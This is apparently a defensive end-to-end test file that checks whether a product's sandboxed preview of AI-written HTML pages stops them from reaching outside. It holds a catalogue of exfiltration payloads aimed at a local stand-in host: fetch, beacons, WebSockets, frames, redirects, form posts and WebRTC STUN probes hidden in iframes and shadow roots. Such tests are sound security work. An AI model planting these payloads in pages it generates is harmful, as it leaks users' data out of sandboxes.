import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { routes } from '@tutka/http-contracts';
import type { Browser, Page } from 'playwright-core';
import { type Api, ask, signIn } from './api.ts';
import { openBrowser, openPage } from './browser.ts';
import { installedDataDir, type Product, startProduct } from './product.ts';

/** How long anything that leaves a page may take to arrive here, on the same machine. */
const GRACE_MS = 1500;

/** What pages try to reach: a server and a peer, which note what comes. */
class Elsewhere {
  readonly came: string[] = [];
  readonly #server = createServer(({ url = '' }, response) => {
    this.came.push(url);
    response.setHeader('access-control-allow-origin', '*').end('taken');
  });
  readonly #peers = createSocket('udp4').on('message', () => this.came.push('a packet'));
  host = '';
  stun = '';

  /** Is there until the tests have ended. */
  static async open(): Promise<Elsewhere> {
    const elsewhere = new Elsewhere();
    places.push(elsewhere);
    await once(elsewhere.#server.listen(0, '127.0.0.1'), 'listening');
    elsewhere.#peers.bind(0, '127.0.0.1');
    await once(elsewhere.#peers, 'listening');
    elsewhere.host = `127.0.0.1:${(elsewhere.#server.address() as AddressInfo).port}`;
    elsewhere.stun = `stun:127.0.0.1:${elsewhere.#peers.address().port}`;
    return elsewhere;
  }

  close(): void {
    this.#server.close();
    this.#server.closeAllConnections();
    this.#peers.close();
  }
}

const places: Elsewhere[] = [];
let product: Product;
let browser: Browser;
let owner: Api;
let session: string;

before(async () => {
  product = await startProduct(await installedDataDir());
  browser = await openBrowser();
  owner = await signIn(product, 'owner@example.org');
  const { uuid: agentUUID } = await owner.call(routes.createAgent, { body: { name: 'Painter' } });
  session = (await owner.call(routes.createSession, { body: { agentUUID, title: 'A page' } })).uuid;
  await ask(owner, session, 'Draw me a page');
});

after(async () => {
  await browser?.close();
  for (const place of places) place.close();
  await product?.end();
});

/** Opens the preview of a page that a reply shows, and waits until its last script has run. */
async function look(html: string): Promise<Page> {
  const page = await openPage(browser, product.url, owner.cookie);
  const shown = `${html}\n<script>top.postMessage('ran as ' + origin, '*')</script>`;
  // The reply's text alone is put in place of what the model said.
  await page.route('**/api/session-messages?*', async (route) => {
    const answer = await route.fetch();
    const body = await answer.json();
    for (const message of body.data) {
      if (message.role === 'assistant') message.content = `\`\`\`html\n${shown}\n\`\`\``;
    }
    await route.fulfill({ response: answer, json: body });
  });
  await page.addInitScript(`addEventListener('message', ({ data }) => {
    if (typeof data === 'string') document.documentElement.dataset.heard = data;
  })`);
  await page.goto(`${product.url}/chat/${session}`);
  await page.getByRole('button', { name: 'Preview', exact: true }).click();
  await page.locator('html[data-heard="ran as null"]').waitFor();
  return page;
}

test('what leaves a page is noticed here', async () => {
  const { came, host, stun } = await Elsewhere.open();
  const other = await browser.newPage();
  await other.setContent(
    `<img src="http://${host}/seen"><script>
      const peer = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    </script>`,
  );
  while (!came.includes('/seen') || !came.includes('a packet')) await other.waitForTimeout(50);
  await other.close();
});

const peer = (urls: string) =>
  `try { const p = new RTCPeerConnection({ iceServers: [{ urls: '${urls}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}`;

const attacks: Readonly<Record<string, (elsewhere: Elsewhere) => string>> = {
  'asks by script': ({ host }) =>
    `<script>fetch('http://${host}/fetch').catch(() => 0); new Image().src = 'http://${host}/image';
     navigator.sendBeacon('http://${host}/beacon', 'x'); try { new WebSocket('ws://${host}/socket') } catch {}
     try { new EventSource('http://${host}/events') } catch {}
     try { new Worker(URL.createObjectURL(new Blob(['fetch("http://${host}/worker")']))) } catch {}
     import('http://${host}/module').catch(() => 0);</script>`,
  'names things to load': ({ host }) =>
    `<base href="http://${host}/"><link rel="stylesheet" href="http://${host}/css"><link rel="icon" href="http://${host}/icon">
     <link rel="preconnect" href="http://${host}"><link rel="prefetch" href="http://${host}/prefetch"><link rel="preload" as="image" href="http://${host}/preload">
     <script type="speculationrules">{"prerender":[{"urls":["http://${host}/rule"]}]}</script>
     <style>@import url(http://${host}/import); body { background: url(http://${host}/back) } @font-face { font-family: f; src: url(http://${host}/font) } b { font-family: f }</style>
     <b>text</b><img src="http://${host}/img" srcset="http://${host}/set 2x"><svg><image href="http://${host}/svg"/><use href="http://${host}/use#a"/></svg>
     <video poster="http://${host}/poster" src="http://${host}/video"></video><script src="http://${host}/script"></script>`,
  'adds a hint by script': ({ host }) =>
    `<script>const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://${host}/hint'; document.head.append(l)</script>`,
  'holds frames': ({ host }) =>
    `<iframe src="http://${host}/frame"></iframe><object data="http://${host}/object"></object><embed src="http://${host}/embed">
     <iframe srcdoc="<script>location = 'http://${host}/inner'</script>"></iframe>`,
  'sends itself away': ({ host }) => `<meta http-equiv="refresh" content="0;url=http://${host}/refresh">`,
  'goes by script': ({ host }) =>
    `<script>setTimeout(() => { location = 'http://${host}/away' }, 100)</script>`,
  'follows links': ({ host }) =>
    `<a id="a" href="http://${host}/link" ping="http://${host}/ping">x</a><a id="b" target="_top" href="http://${host}/top">x</a><a id="c" target="_blank" href="http://${host}/blank">x</a><a id="d" download href="http://${host}/download">x</a>
     <script>setTimeout(() => { for (const each of [b, c, d, a]) each.click(); try { top.location = 'http://${host}/top' } catch {} open('http://${host}/open') }, 100)</script>`,
  'sends forms': ({ host }) =>
    `<form id="f" method="post" action="http://${host}/form"><input name="x" value="1"></form><form id="g" target="_blank" action="http://${host}/tab"></form>
     <script>setTimeout(() => { f.submit(); f.requestSubmit(); g.submit() }, 100)</script>`,
  'connects to peers': ({ stun }) => `<script>${peer(stun)}</script>`,
  'connects to peers from within': ({ stun }) =>
    `<iframe srcdoc="<script>${peer(stun)}</script>"></iframe><div id="h"></div><div><template shadowrootmode="closed"><iframe srcdoc="<script>${peer(stun)}</script>"></iframe></template></div>
     <script>const frame = () => Object.assign(document.createElement('iframe'), { srcdoc: \`<script>${peer(stun)}<\\/script>\` });
     document.body.append(frame()); h.attachShadow({ mode: 'closed' }).append(frame());
     try { document.write('<iframe srcdoc="&lt;script&gt;${peer(stun)}&lt;/script&gt;"></iframe>') } catch {}</script>`,
};

describe('while it stays open', () => {
  const opened = new Map<string, { readonly page: Page; readonly elsewhere: Elsewhere }>();

  before(async () => {
    for (const [name, attack] of Object.entries(attacks)) {
      const elsewhere = await Elsewhere.open();
      opened.set(name, { elsewhere, page: await look(attack(elsewhere)) });
    }
    await sleep(GRACE_MS);
  });

  for (const name of Object.keys(attacks)) {
    test(`a page that ${name} reaches nobody`, () => {
      const { page, elsewhere } = opened.get(name) ?? assert.fail('it was not opened');
      assert.deepEqual(elsewhere.came, []);
      assert.equal(page.context().pages().length, 1);
      assert.equal(new URL(page.url()).origin, new URL(product.url).origin);
    });
  }
});

test('a page runs and is used, on its own', async () => {
  const page = await look(
    `<form onsubmit="event.preventDefault(); out.textContent = 'Hello ' + who.value"><input id="who" aria-label="Who"><button>Greet</button></form><p id="out"></p>
     <script>let stored = 'nothing'; try { stored = document.cookie + localStorage.length } catch {} document.title = stored</script>`,
  );
  const inner = page.frameLocator('iframe[title="Preview"]').frameLocator('iframe');
  await inner.getByLabel('Who').fill('Mara');
  await inner.getByRole('button', { name: 'Greet' }).click();
  await inner.getByText('Hello Mara').waitFor();
  await page.getByRole('button', { name: 'Full screen' }).click();
  await page.getByRole('dialog').locator('iframe').waitFor();
});

test('the frame shows nothing to a page that is not around it', async () => {
  const alone = await browser.newPage();
  await alone.goto(`${product.url}/preview.html`);
  await alone.evaluate(`postMessage({ html: '<h1>Sign in again</h1>' }, '*')`);
  await alone.waitForTimeout(300);
  assert.equal(await alone.locator('iframe').count(), 0);
  await alone.close();
});
